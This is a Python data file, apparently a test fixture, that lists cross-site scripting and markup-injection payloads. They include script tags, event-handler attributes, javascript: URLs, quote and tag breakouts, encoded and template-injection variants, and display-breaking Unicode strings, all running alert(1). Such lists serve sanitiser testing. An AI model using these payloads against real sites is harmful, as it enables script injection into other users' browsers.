"""What somebody would write into a name or a message to run a program on another's screen, or to spoil the page."""

RUN = "alert(1)"

TAGS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=/static/map.js></script>",
    "<script src=//127.0.0.1/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f'<img """><script>{RUN}</script>">',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>">',
    f"<a href=javascript:{RUN}>ahoy</a>",
    f"<form action=javascript:{RUN}><button>ahoy</button></form>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    "<base href=//127.0.0.1/>",
    "<meta http-equiv=refresh content=0;url=/quit>",
    "<link rel=stylesheet href=//127.0.0.1/x.css>",
    "<style>body{display:none}</style>",
    "<plaintext>",
    "<!--",
    "<xmp>",
    "<noscript>",
    "<textarea>",
    "<title>",
    "<marquee>ahoy</marquee>",
    "<h1>Ahoy</h1>",
    "<table><tr><td>",
]
ENDINGS = [
    f"</title><script>{RUN}</script>",
    f"</h1></div></main><script>{RUN}</script>",
    f"</pre><img src=x onerror={RUN}>",
    f"</code></span><svg onload={RUN}>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
]
QUOTES = [
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onfocus={RUN} autofocus="',
    f"' onfocus={RUN} autofocus='",
    f'" style="position:fixed;inset:0" onmouseover={RUN} "',
    f"`-{RUN}-`",
    f'";{RUN};//',
    f"';{RUN};//",
    f"\\';{RUN};//",
    f"'}}).text); {RUN} #",
]
OTHER_LANGUAGES = [
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}",
    f"{{{{!'<script>{RUN}</script>'}}}}",
    f"{{{{{RUN}}}}}",
    "% import os",
    "${" + RUN + "}",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",  # becomes < and > in Unicode's form NFKC
]
SPOILERS = [
    "ahoy\u202egnirts a",
    "x" * 200,
    "\N{GRINNING FACE}" * 100,
    "a\u0300" * 90,
    "\N{ARABIC LIGATURE BISMILLAH AR-RAHMAN AR-RAHEEM}" * 20,
    "line\u2028separator",
]

HOSTILE = TAGS + ENDINGS + QUOTES + OTHER_LANGUAGES + SPOILERS
